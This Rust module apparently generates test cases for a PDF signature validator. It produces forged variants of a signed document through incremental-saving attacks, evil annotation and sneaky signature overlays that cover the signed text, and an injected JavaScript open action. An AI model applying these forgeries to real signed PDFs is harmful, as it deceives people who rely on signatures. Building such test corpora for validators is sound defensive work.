//! Incremental saving, and attacks on certified documents: something is added after the last signature.

use super::{
    Attack,
    tools::{Extent, append, append_with, body, changed, first, number},
    victim::VICTIM,
};

pub(super) fn all() -> Vec<Attack> {
    let mut attacks: Vec<Attack> = Vec::new();
    for (state, pdf) in [("once", &VICTIM.once), ("twice", &VICTIM.twice)] {
        for (name, objects) in revisions(pdf) {
            let bytes = append(pdf, &objects, Extent::Whole);
            attacks.push(Attack::new("ISA", format!("{name}, signed {state}"), bytes));
        }
        for (class, name, objects) in certified(pdf) {
            let bytes = append(pdf, &objects, Extent::Whole);
            attacks.push(Attack::new(class, format!("{name}, signed {state}"), bytes));
        }
    }
    attacks.extend(careless());
    attacks
}

type Objects = Vec<(u32, Vec<u8>)>;

/// A drawing that covers the page with another text.
fn drawing() -> Vec<u8> {
    let text = "1 g 0 0 600 850 re f 0 g BT /Regular 40 Tf 60 400 Td <00010002> Tj ET";
    format!("<</Length {}>>\nstream\n{text}\nendstream", text.len()).into_bytes()
}

/// The number of the content stream of page 1.
fn content(pdf: &[u8]) -> u32 {
    let page = first(pdf, b"/Type/Page/", 0);
    let at = first(pdf, b"/Contents ", page) + 10;
    let end = first(pdf, b" ", at);
    std::str::from_utf8(&pdf[at..end]).unwrap().parse().unwrap()
}

/// The number of page 1.
fn page(pdf: &[u8]) -> u32 {
    let at = first(pdf, b"/Type/Page/", 0);
    number(&pdf[..at + 11], b"/Type/Page/")
}

/// Changed objects, as a reader takes them: the newest one counts.
fn revisions(pdf: &[u8]) -> Vec<(&'static str, Objects)> {
    let catalog = |old: &[u8], new: &[u8]| vec![changed(pdf, b"/Type /Catalog", old, new)];
    let attachment = number(pdf, b"/Type/EmbeddedFile/Subtype/application#2Fjson");
    let signature = body(pdf, number(pdf, b"/Type /Sig "));
    let forged = b"<</Type/EmbeddedFile/Subtype/application#2Fjson/Length 2>>stream\n{}\nendstream";
    vec![
        ("page content", vec![(content(pdf), drawing())]),
        ("attached data", vec![(attachment, forged.to_vec())]),
        ("attachments gone", catalog(b"/EmbeddedFiles", b"/EmbeddedFilez")),
        ("language", catalog(b"(nl-NL)", b"(en-GB)")),
        (
            "open action",
            catalog(b"/Perms", b"/OpenAction <</S /JavaScript /JS (app.alert(1))>> /Perms"),
        ),
        ("certification gone", catalog(b"/Perms", b"/Permz")),
        ("tags gone", catalog(b"/StructTreeRoot", b"/StructTreeRoom")),
        ("form gone", catalog(b"/AcroForm", b"/AcroFork")),
        ("title", vec![changed(pdf, b"<</Title<FEFF", b"<FEFF0050", b"<FEFF0051")]),
        (
            "metadata",
            vec![(
                number(pdf, b"/Type/Metadata"),
                b"<</Type/Metadata/Subtype/XML/Length 0>>stream\n\nendstream".to_vec(),
            )],
        ),
        ("font", vec![changed(pdf, b"/FontFile2", b"/ItalicAngle 0", b"/ItalicAngle 9")]),
        ("field without its value", vec![changed(pdf, b"/T (Signature1)", b"/V ", b"/W ")]),
        ("field moved", vec![changed(pdf, b"/T (Signature1)", b"/Rect [", b"/Rect [1")]),
        ("appearance", vec![changed(pdf, b"/Subtype /Form", b"/BBox [0 0", b"/BBox [9 9")]),
        ("signature copied", vec![(900, signature)]),
        ("nothing", Vec::new()),
        ("an object that nobody names", vec![(901, b"null".to_vec())]),
    ]
}

/// What certification still lets through in many readers: an annotation over the text (evil annotation attack), and another
/// signature field whose appearance covers the text (sneaky signature attack).
fn certified(pdf: &[u8]) -> Vec<(&'static str, &'static str, Objects)> {
    let page = page(pdf);
    let note = b"<</Type/Annot/Subtype/FreeText/Rect[60 500 540 700]/Contents(Geen DPIA nodig)/DA(/Helv 20 Tf)>>";
    let stamp = b"<</Type/Annot/Subtype/Stamp/Rect[60 500 540 700]/AP<</N 903 0 R>>>>";
    let field = b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Signature9)/Rect[60 500 540 700]/AP<</N 903 0 R>>>>";
    let covering = |annotation: &[u8]| {
        let own = String::from_utf8(body(pdf, page)).unwrap();
        let covered = own.replacen("/Annots[", "/Annots[902 0 R ", 1);
        vec![(page, covered.into_bytes()), (902, annotation.to_vec()), (903, drawing())]
    };
    let form = changed(pdf, b"/Fields [", b"/Fields [", b"/Fields [902 0 R ");
    let sneaky = covering(field).into_iter().chain([form]).collect();
    vec![
        ("EAA", "free text over the outcome", covering(note)),
        ("EAA", "stamp over the outcome", covering(stamp)),
        ("SSA", "signature field over the outcome", sneaky),
    ]
}

/// Revisions that are not even whole: many readers mend them in silence.
fn careless() -> Vec<Attack> {
    let pdf = &VICTIM.twice;
    let page = vec![(content(pdf), drawing())];
    let mut comment = pdf.clone();
    comment.extend(b"% een opmerking\n");
    let mut object = pdf.clone();
    object.extend(b"\n45 0 obj\n<<>>\nendobj\n");
    let free = {
        let at = last_table(pdf);
        format!(
            "xref\n45 1\n0000000000 65535 f\r\ntrailer\n<</Size 999 /Root 45 0 R /Prev {at}>>\nstartxref\n{}\n%%EOF\n",
            pdf.len()
        )
    };
    let mut freed = pdf.clone();
    freed.extend(free.bytes());
    vec![
        Attack::new("ISA", "page without a table", append(pdf, &page, Extent::NoTable)),
        Attack::new("ISA", "page without table and trailer", append(pdf, &page, Extent::Objects)),
        Attack::new("ISA", "comment at the end", comment),
        Attack::new("ISA", "object at the end", object),
        Attack::new("ISA", "object set free", freed),
        Attack::new("ISA", "encryption", append_with(pdf, &[], Extent::Whole, " /Encrypt 900 0 R")),
        Attack::new("ISA", "one byte less", pdf[..pdf.len() - 1].to_vec()),
    ]
}

fn last_table(pdf: &[u8]) -> String {
    let at = super::tools::last(pdf, b"startxref\n") + 10;
    String::from_utf8_lossy(&pdf[at..first(pdf, b"\n", at)]).into_owned()
}
